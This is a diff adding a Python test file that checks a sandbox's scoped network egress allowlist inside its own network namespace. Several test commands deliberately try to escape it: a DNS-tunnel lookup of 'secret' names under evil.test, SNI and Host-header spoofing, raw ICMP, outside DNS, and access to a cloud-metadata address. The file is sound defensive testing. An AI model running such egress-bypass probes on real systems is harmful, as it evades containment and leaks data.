@@ -1,0 +1,209 @@
+"""network: scoped, with real clients and a real TLS server, in a network namespace that this test makes for itself.
+
+The server has an address of the public internet there, which leads nowhere else; names come from a hosts file that is mounted
+over /etc/hosts in a mount namespace of the test. Nothing leaves the machine.
+"""
+
+import http.server
+import os
+import pathlib
+import socket
+import socketserver
+import ssl
+import subprocess
+import sys
+import threading
+import time
+import unittest
+
+from pawl_testing import PawlTest
+
+PUBLIC, PUBLIC6 = "93.184.215.14", "2606:2800:21f:cb07::1"
+HOSTS = f"""127.0.0.1 localhost
+{PUBLIC} good.test other.test a.wild.test b.wild.test
+{PUBLIC6} six.test
+10.20.30.40 private.test
+169.254.169.254 metadata.test
+"""
+
+
+def enter_own_namespaces():
+    if os.environ.get("PAWL_EGRESS_TEST_INSIDE"):
+        return
+    flags = ["-mn"] if os.geteuid() == 0 else ["-Urmn"]
+    os.environ["PAWL_EGRESS_TEST_INSIDE"] = "1"
+    os.execvp("unshare", ["unshare", *flags, sys.executable, *sys.argv])
+
+
+class Handler(http.server.SimpleHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, *_):
+        pass
+
+
+class Server(http.server.ThreadingHTTPServer):
+    address_family = socket.AF_INET
+    daemon_threads = True
+
+
+class Server6(Server):
+    address_family = socket.AF_INET6
+
+
+class Egress(PawlTest):
+    def setUp(self):
+        super().setUp()
+        for command in (["ip", "link", "set", "lo", "up"], ["ip", "addr", "replace", f"{PUBLIC}/32", "dev", "lo"],
+                        ["ip", "-6", "addr", "replace", f"{PUBLIC6}/128", "dev", "lo"],
+                        ["ip", "addr", "replace", "10.20.30.40/32", "dev", "lo"]):
+            subprocess.run(command, check=True)
+        self.write("hosts", HOSTS)
+        subprocess.run(["mount", "--bind", self.root / "hosts", "/etc/hosts"], check=True)
+        self.addCleanup(subprocess.run, ["umount", "/etc/hosts"], check=True)
+        self.web = self.root / "web"
+        (self.web / "simple").mkdir(parents=True)
+        (self.web / "hello").write_text("hello\n")
+        subprocess.run("git init -q -b main r && cd r && echo x > f && git add f && git -c user.name=t -c user.email=t@t.test "
+                       "commit -qm one && git update-server-info", shell=True, check=True, cwd=self.web)
+        self.tls = self.root / "tls"
+        self.tls.mkdir()
+        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=good.test",
+                        "-addext", "subjectAltName=DNS:good.test,DNS:other.test,DNS:*.wild.test,DNS:six.test", "-keyout",
+                        self.tls / "key", "-out", self.tls / "cert"], check=True, capture_output=True)
+        os.chmod(self.tls / "cert", 0o644)
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        context.load_cert_chain(self.tls / "cert", self.tls / "key")
+        handler = lambda *a, **k: Handler(*a, directory=str(self.web), **k)
+        self.serve(Server(("0.0.0.0", 443), handler), context)
+        self.serve(Server6((PUBLIC6, 443), handler), context)
+        self.serve(Server(("0.0.0.0", 80), handler), None)
+
+    def serve(self, server, context):
+        if context:
+            server.socket = context.wrap_socket(server.socket, server_side=True)
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        self.addCleanup(server.server_close)
+        self.addCleanup(server.shutdown)
+
+    def inside(self, script, *egress, expect=None):
+        allowed = [word for entry in egress for word in ("--egress", entry)]
+        done = self.pawl("sandbox", "exec", "--network", "scoped", *allowed, "--ro", f"{self.tls}/cert:/ca", "--", "sh", "-c",
+                         script, expect=expect)
+        return done
+
+    def test_clients_that_know_nothing_of_proxies(self):
+        for name, script in {
+                "curl": "curl -sS --cacert /ca https://good.test/hello",
+                "python": "python3 -c \"import ssl, urllib.request as u; print(u.urlopen('https://good.test/hello', context="
+                          "ssl.create_default_context(cafile='/ca')).read().decode(), end='')\"",
+                "git": "git -c http.sslCAInfo=/ca clone -q https://good.test/r/.git /tmp/r && cat /tmp/r/f",
+                "openssl": "printf 'GET /hello HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n' | "
+                           "openssl s_client -quiet -CAfile /ca -verify_return_error -servername good.test "
+                           "-connect good.test:443 2>/dev/null | tail -1",
+                "wget": "wget -q -O - --ca-certificate=/ca https://good.test/hello",
+        }.items():
+            with self.subTest(name):
+                done = self.inside(f"command -v {name if name != 'python' else 'python3'} >/dev/null || exit 99; {script}",
+                                   "good.test:443")
+                self.assertEqual((done.returncode, done.stdout), (0, "x\n" if name == "git" else "hello\n"), done.stderr)
+
+    def test_nothing_else_gets_out(self):
+        for name, script in {
+                "another name": "curl -sS -m 5 --cacert /ca https://other.test/hello",
+                "another port": "curl -sS -m 5 http://good.test/hello",
+                "the address itself": f"curl -sS -m 5 -k https://{PUBLIC}/hello",
+                "another name at the allowed address": "curl -sS -m 5 -k --connect-to other.test:443:good.test:443 "
+                                                       "https://other.test/hello",
+                "IPv6": f"curl -sS -m 5 -g -k 'https://[{PUBLIC6}]/hello'",
+                "DNS of another server": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                                         "s.settimeout(2); s.sendto(b'x' * 20, ('1.1.1.1', 53)); print(s.recv(9))\"",
+                "a DNS tunnel": "for i in 1 2 3; do getent hosts secret$i.evil.test && exit 0; done; exit 1",
+                "UDP to an allowed name": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                                          "s.settimeout(2); s.connect(('good.test', 443)); s.send(b'x'); s.recv(9)\"",
+                "ICMP": "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\"",
+                "the proxy, to another name": "curl -sS -m 5 -k -x http://198.18.0.1:3128 https://other.test/hello",
+        }.items():
+            with self.subTest(name):
+                done = self.inside(script, "good.test:443")
+                self.assertNotEqual(done.returncode, 0, done.stdout)
+                self.assertNotIn("hello", done.stdout)
+
+    def test_each_refusal_is_told(self):
+        done = self.inside("curl -sS -m 5 -k --connect-to other.test:443:good.test:443 https://other.test/; "
+                           "curl -sS -m 5 -H 'Host: other.test' http://good.test/hello; getent hosts evil.test; true",
+                           "good.test:443", "good.test:80")
+        for words in ('the TLS hello names "other.test"', 'the Host header names "other.test"',
+                      "evil.test:0: refused: this name is not allowed"):
+            self.assertIn(words, done.stderr)
+
+    def test_private_addresses_only_by_number(self):
+        for name in ("private.test", "metadata.test"):
+            done = self.inside(f"curl -sS -m 5 http://{name}/hello", f"{name}:80")
+            self.assertNotEqual(done.returncode, 0)
+            self.assertIn("which is not public; allow it by number", done.stderr)
+        done = self.inside("curl -sS http://private.test/hello; curl -sS http://10.20.30.40/hello", "private.test:80",
+                           "10.20.30.40:80", expect=0)
+        self.assertEqual(done.stdout, "hello\nhello\n")
+
+    def test_names_below_a_star(self):
+        done = self.inside("curl -sS --cacert /ca https://a.wild.test/hello https://b.wild.test/hello", "*.wild.test:443",
+                           expect=0)
+        self.assertEqual(done.stdout, "hello\nhello\n")
+        self.assertNotEqual(self.inside("getent hosts wild.test", "*.wild.test:443").returncode, 0)
+
+    def test_the_proxy_and_ipv6_upstreams(self):
+        done = self.inside("curl -sS --cacert /ca -x http://198.18.0.1:3128 https://good.test/hello; "
+                           "curl -sS --cacert /ca https://six.test/hello", "good.test:443", "six.test:443", expect=0)
+        self.assertEqual(done.stdout, "hello\nhello\n")
+
+    def test_a_server_that_speaks_first_and_a_large_body(self):
+        (self.web / "large").write_bytes(os.urandom(8 << 20))
+        listener = socket.create_server(("0.0.0.0", 2222))
+        self.addCleanup(listener.close)
+
+        def greet():
+            peer, _ = listener.accept()
+            peer.sendall(b"220 welcome\n")
+            peer.close()
+        threading.Thread(target=greet, daemon=True).start()
+        done = self.inside("python3 -c \"import socket; print(socket.create_connection(('good.test', 2222)).recv(99))\"; "
+                           "curl -sS --cacert /ca https://good.test/large | md5sum", "good.test:2222", "good.test:443", expect=0)
+        self.assertIn("220 welcome", done.stdout)
+        digest = subprocess.run(["md5sum", self.web / "large"], capture_output=True, text=True).stdout.split()[0]
+        self.assertIn(digest, done.stdout)
+
+    def test_a_name_that_does_not_resolve_is_a_clear_line_and_no_hang(self):
+        started = time.monotonic()
+        done = self.inside("curl -sS -m 30 http://nowhere.test/", "nowhere.test:80")
+        self.assertLess(time.monotonic() - started, 30)
+        self.assertNotEqual(done.returncode, 0)
+        self.assertIn("nowhere.test:80: failed: nowhere.test does not resolve", done.stderr)
+
+    def test_a_plan_and_its_network_log(self):
+        self.write("source/file", "x\n")
+        self.write("plan.yaml", """version: 1
+workflow: net
+source: {path: source}
+gates:
+  check: {steps: [{name: unit, run: "true"}]}
+tiers:
+  - phases:
+      - {id: p, goal: g, agent: {run: "curl -sS http://good.test/hello; getent hosts evil.test; true", network: scoped, egress: ["good.test:80"], trace: true}, gates: [check]}
+""")
+        self.pawl("run", "plan.yaml", expect=0)
+        step = self.pawl_json("inspect", "last")["phases"][0]["attempts"][0]["steps"][0]
+        self.assertEqual(step["run"]["egress_allowlist"], ["good.test:80"])
+        self.assertEqual([tried["host"] for tried in step["network_refused"]], ["evil.test"])
+        self.assertIn("network: evil.test:0: refused", self.pawl("inspect", "last", expect=0).stdout)
+        network = self.pawl("logs", "last", "p", "--network", expect=0).stdout
+        self.assertIn('"host":"good.test"', network)
+        self.assertIn('"received":', network)
+        trace = self.pawl("logs", "last", "p", "--trace", expect=0).stdout
+        self.assertIn('"event":"exec"', trace)
+        self.assertIn('"address":"198.18.1.0"', trace)
+
+
+if __name__ == "__main__":
+    enter_own_namespaces()
+    unittest.main(verbosity=1)
